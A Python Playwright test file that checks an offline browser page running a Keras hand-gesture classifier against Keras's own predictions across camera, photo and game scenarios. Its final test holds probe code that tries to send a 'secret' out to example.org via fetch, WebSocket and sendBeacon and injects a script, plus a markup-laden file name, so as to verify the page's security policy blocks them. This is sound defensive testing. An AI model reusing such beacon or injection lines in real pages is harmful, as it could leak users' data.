"""A page to take along in Chromium and Firefox: opened as a file, without a network, by a camera.

Needs what test_browser.py needs, and Firefox. What it showed is left in `runs/browser/`.
"""

from __future__ import annotations

import base64
import functools
import http.server
import threading
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

import keras
import numpy as np
import pytest
from browsers import CAMERA, camera_of, keep_picture, press, says, write_film
from keras import layers
from PIL import Image
from trained import CLASSES, SIZE, as_input, colour_network, hands, small_network, train_and_save

from helpers.photos import open_photo, to_square_array
from helpers.pretrained.efficientnet_lite import build_efficientnet_lite0, packaged_weights
from tools.take_along import write_page

FIREFOX_CAMERA = {"media.navigator.streams.fake": True, "media.navigator.permission.disabled": True}
ENGINES = ("chromium", "firefox")
FRAMES = 100  # to compare with Keras; the film has some more
LOOK = """async () => {
  const { brain, panel } = window.takeAlong;
  const probabilities = await brain.look(await panel.source.grab());
  const { pixels, milliseconds } = brain.seen;
  let text = "";
  for (let at = 0; at < pixels.data.length; at += 8192) {
    text += String.fromCharCode(...pixels.data.subarray(at, at + 8192));
  }
  return { probabilities, milliseconds, side: pixels.width, pixels: btoa(text) };
}"""
LISTEN = """() => {
  const { brain } = window.takeAlong;
  const look = brain.look.bind(brain);
  window.looks = [];
  brain.look = async (picture) => {
    const probabilities = await look(picture);
    window.looks.push([probabilities, brain.seen.milliseconds]);
    return probabilities;
  };
}"""
CONNECT = """async () => {
  const refused = [];
  const note = (event) => refused.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  const image = new Image();
  image.src = "https://example.org/a.png";
  await fetch("https://example.org/").catch(() => {});
  try { new WebSocket("wss://example.org/"); } catch {}
  navigator.sendBeacon("https://example.org/", "secret");
  const script = document.createElement("script");
  script.textContent = "window.escaped = true";
  document.body.append(script);
  await new Promise((done) => setTimeout(done, 300));
  return { refused, escaped: window.escaped ?? false };
}"""
DROP = """([bytes, names]) => {
  const dataTransfer = new DataTransfer();
  for (const name of names) {
    dataTransfer.items.add(new File([new Uint8Array(bytes)], name, { type: "image/png" }));
  }
  const options = { dataTransfer, bubbles: true, cancelable: true };
  document.body.dispatchEvent(new DragEvent("drop", options));
}"""


def lite_network() -> keras.Model:
    base = build_efficientnet_lite0(SIZE, weights=packaged_weights())
    base.trainable = False
    x = layers.GlobalAveragePooling2D()(base.output)
    return keras.Model(base.input, layers.Dense(3, activation="softmax")(x))


@pytest.fixture(scope="module", params=[small_network, lite_network])
def trained(request, playwright, tmp_path_factory) -> tuple[keras.Model, Path]:
    """A network that was trained for seconds, and its page, where a browser can open it."""
    keras.utils.set_random_seed(0)
    network = request.param()
    path = train_and_save(network, tmp_path_factory.mktemp("page"))
    return network, write_page(path, path.with_name("page.html"))


@pytest.fixture(scope="module")
def green(tmp_path_factory) -> Callable[..., Path]:
    """Return a function that writes the page of a network which reads green as the second class.

    It is sure of green, and unsure of grey.
    """
    folder = tmp_path_factory.mktemp("green")
    colour_network(1 / 10).save(folder / "network.keras")
    return lambda *classes: write_page(folder / "network.keras", folder / "page.html", classes)


@pytest.fixture
def opened() -> Iterator[Callable]:
    """Return a function that opens a page in a browser which has no network."""
    contexts = []

    def open_page(browser, address: Path | str, offline: bool = True, **options):
        context = browser.new_context(**{"viewport": {"width": 390, "height": 844}} | options)
        contexts.append(context)
        context.set_offline(offline)
        page = context.new_page()
        page.asked, page.errors = [], []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("pageerror", lambda error: page.errors.append(str(error)))
        page.on("console", lambda said: page.errors.append(said.text))
        page.goto(address.as_uri() if isinstance(address, Path) else address)
        page.locator("button[name=camera]").wait_for()
        return page

    yield open_page
    for context in contexts:
        context.close()


def start(request, engine: str, camera: bool):
    if engine == "chromium":
        return request.getfixturevalue("launch")(*(CAMERA if camera else []))
    return request.getfixturevalue("launch_firefox")(FIREFOX_CAMERA if camera else {})


@pytest.fixture(scope="module", params=ENGINES)
def without_camera(request) -> Iterator:
    started = start(request, request.param, camera=False)
    yield started
    started.close()


@pytest.fixture(scope="module", params=ENGINES)
def with_camera(request) -> Iterator:
    """A browser whose camera shows something that it makes up: green, or in Firefox any colour."""
    started = start(request, request.param, camera=True)
    yield started
    started.close()


@pytest.fixture(scope="module")
def with_film(launch, tmp_path_factory) -> Iterator:
    """Chromium whose camera shows drawn hands, each for a moment; Firefox plays no film."""
    film = tmp_path_factory.mktemp("film") / "hands.y4m"
    write_film(film, hands(FRAMES + 30, 1000), height=240, rate=10)
    started = launch(*camera_of(film))
    yield started
    started.close()


def choose(page, *files: Path) -> None:
    """Choose photos without the dialogue, which in Firefox nobody closes: it opens once a page."""
    page.locator("input[type=file]").set_input_files(files)


def seen(page) -> np.ndarray:
    """Return what the network saw last, (size, size, 3), uint8."""
    page.wait_for_function("() => takeAlong.brain.seen")
    values = page.evaluate("[...takeAlong.brain.seen.square]")
    side = round((len(values) / 3) ** 0.5)
    return np.array(values, np.uint8).reshape(side, side, 3)


def watch(page) -> tuple[list[Image.Image], list[list[float]], list[float]]:
    """Return different frames of the camera, the page's answers, and their milliseconds."""
    press(page, "camera")
    page.locator(".wc-best").wait_for()
    frames, answers, times = {}, [], []
    for _ in range(20 * FRAMES):
        look = page.evaluate(LOOK)
        if look["pixels"] not in frames:
            raw = np.frombuffer(base64.b64decode(look["pixels"]), np.uint8)
            frames[look["pixels"]] = Image.fromarray(raw.reshape(look["side"], look["side"], 3))
            answers.append(look["probabilities"])
            times.append(look["milliseconds"])
        if len(frames) >= FRAMES:
            break
    return [*frames.values()], answers, times


def agree(page, trained, pictures: list[Image.Image], answers, times) -> list[int]:
    """Check a page's answers against Keras's; return the classes."""
    network, path = trained
    wanted = network.predict(as_input(pictures), verbose=0)
    classes = wanted.argmax(axis=1)
    assert len(pictures) >= FRAMES
    assert np.abs(np.array(answers) - wanted).max() < 1e-3
    assert np.array_equal(np.argmax(answers, axis=1), classes)
    browser = page.context.browser
    print(
        f"{browser.browser_type.name} {browser.version}, {network.name}: {len(pictures)} pictures, "
        f"{np.median(times):.0f} ms each, page {path.stat().st_size / 1e6:.1f} MB."
    )
    return list(classes)


def test_the_page_reads_a_hundred_frames_as_keras_does(trained, with_film, opened):
    page = opened(with_film, trained[1])
    frames, *read = watch(page)
    assert frames[0].width == 240
    classes = agree(page, trained, frames, *read)
    assert len(set(classes)) == 3, "all classes must occur"
    assert page.asked == [trained[1].as_uri()] and page.errors == []


@pytest.mark.parametrize("with_camera", ["firefox"], indirect=True)
def test_firefox_reads_its_camera_as_keras_does(trained, with_camera, opened):
    page = opened(with_camera, trained[1])
    agree(page, trained, *watch(page))
    page.evaluate(LISTEN)
    page.wait_for_function("() => looks.length > 2")  # live
    shares = page.locator(".wc-value").all_inner_texts()
    assert abs(sum(int(share.removesuffix(" %")) for share in shares) - 100) <= 1
    assert page.errors == []


def test_the_page_reads_a_hundred_photos_as_keras_does(trained, without_camera, opened, tmp_path):
    page = opened(without_camera, trained[1])
    photos = hands(FRAMES, 1000)
    files = [tmp_path / f"{number}.png" for number in range(FRAMES)]
    for photo, file in zip(photos, files, strict=True):
        photo.save(file)
    page.evaluate(LISTEN)
    choose(page, *files)
    # The list of all, then the last one in the square.
    page.wait_for_function("number => looks.length > number", arg=FRAMES, timeout=120_000)
    looks = page.evaluate("looks.slice(0, -1)")
    classes = agree(page, trained, photos, *zip(*looks, strict=True))
    assert len(set(classes)) == 3, "all classes must occur"
    rows = page.locator(".ta-list td:last-child").all_inner_texts()
    assert [row.split(",")[0] for row in rows] == [CLASSES[each] for each in classes]
    assert page.errors == []


@pytest.mark.parametrize("with_camera", ["chromium"], indirect=True)  # all green
def test_a_game_is_played_to_its_end(green, with_camera, opened):
    page = opened(with_camera, green(*CLASSES))
    press(page, "camera")
    page.locator(".wc-best .wc-name", has_text="rock").wait_for()
    for number in range(5):
        press(page, "play")
        if number == 0:
            page.locator(".wc-count", has_text="3").wait_for()
            round_ = page.evaluate("takeAlong.brain.rounds[0]")
            assert round_["move"] in CLASSES and "read" not in round_
            assert page.locator(".wc-move").inner_text() == "?"
        says(page, "I read rock")
        press(page, "showed-paper")
        page.locator("button[name=showed-paper][aria-pressed=true]").wait_for()
    rounds = page.evaluate("takeAlong.brain.rounds")
    right = {"paper": "lost", "rock": "draw", "scissors": "won"}
    assert [each["outcome"] for each in rounds] == [right[each["move"]] for each in rounds]
    assert page.locator("td.wc-mistake").inner_text() == "5"
    assert page.locator("button[name=play]").inner_text() == "New game"
    keep_picture(page, "take_along_game", full_page=True)
    press(page, "stop")
    says(page, "The camera is off")
    assert page.locator("video").count() == 0 and page.errors == []


def test_without_a_camera_a_photo_is_read_as_the_course_reads_it(
    green, without_camera, opened, tmp_path
):
    page = opened(without_camera, green(*CLASSES))
    press(page, "camera")
    says(page, "There is no camera here: .* or choose a photo")
    with page.expect_file_chooser():
        press(page, "upload")
    pixels = np.zeros((60, 90, 3), np.uint8)
    pixels[:, :, 1] = np.arange(90) + 150
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    for name, options in (("hand.png", {}), ("hand.jpg", {"exif": exif, "quality": 95})):
        Image.fromarray(pixels).save(tmp_path / name, **options)
        page.evaluate("takeAlong.brain.seen = undefined")
        choose(page, tmp_path / name)
        page.locator(".wc-best .wc-name", has_text="rock").wait_for()
        wanted = to_square_array(open_photo(tmp_path / name), 32)
        most = 0 if name.endswith("png") else 2  # two decoders of JPEG need not agree to the bit
        assert np.abs(seen(page).astype(int) - wanted).max() <= most
    press(page, "play")
    says(page, "I read rock")
    Image.new("RGB", (30, 30), "grey").save(tmp_path / "grey.png")
    choose(page, tmp_path / "grey.png")
    press(page, "play")
    says(page, "Not sure of this hand: choose another photo")
    (tmp_path / "broken.jpg").write_bytes(b"no picture")
    choose(page, tmp_path / "broken.jpg")
    says(page, "This is no picture that the browser can read")
    press(page, "drawn")
    page.locator(".wc-best").wait_for()
    assert page.errors == []


def test_other_classes_have_no_game_and_photos_may_be_dropped(green, without_camera, opened):
    page = opened(without_camera, green("cat", "frog", "dog"), color_scheme="dark")
    assert page.locator("button[name=play]").count() == 0
    assert page.locator("h1").text_content() == "cat, frog or dog?"
    Image.new("RGB", (40, 30), (0, 255, 0)).save(file := BytesIO(), "PNG")
    page.evaluate(DROP, [[*file.getvalue()], ["one.png"]])
    says(page, "The network says frog, 100 %")
    page.evaluate(DROP, [[*file.getvalue()], ["one.png", "two <b>.png"]])
    page.locator(".ta-list tr", has_text="two <b>.png").wait_for()
    says(page, "The network says frog")
    assert page.locator(".ta-list td", has_text="frog, 100 %").count() == 2
    assert page.errors == []
    keep_picture(page, f"take_along_photos_{without_camera.browser_type.name}", full_page=True)


@pytest.mark.parametrize("width", [390, 1280])
def test_a_page_fits_its_window_and_can_be_touched(green, without_camera, opened, width):
    window = {"width": width, "height": 844}
    for classes in (CLASSES, ("one", "a very long name of a class", "x" * 60)):
        page = opened(without_camera, green(*classes), viewport=window)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        for button in page.locator("button:visible").all():
            assert button.bounding_box()["height"] >= 44 and button.inner_text()


def test_nothing_leaves_the_page_and_nothing_else_runs_in_it(green, with_camera, opened, tmp_path):
    asked = []

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_request(self, *_) -> None:
            asked.append(self.path)

    path = green(*CLASSES)
    handler = functools.partial(Quiet, directory=str(path.parent))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        origin = f"http://127.0.0.1:{server.server_port}"
        address = f"{origin}/{path.name}"
        proxy = {"server": origin, "bypass": "127.0.0.1"}  # what leaves is counted here, too
        page = opened(with_camera, address, offline=False, proxy=proxy)
        press(page, "camera")
        page.locator(".wc-best").wait_for()
        assert page.asked == [address]
        tried = page.evaluate(CONNECT)
        server.shutdown()
    assert asked == [f"/{path.name}"]
    assert not tried["escaped"]
    assert {"connect-src", "img-src", "script-src-elem"} <= set(tried["refused"])
    assert tried["refused"].count("connect-src") == 3
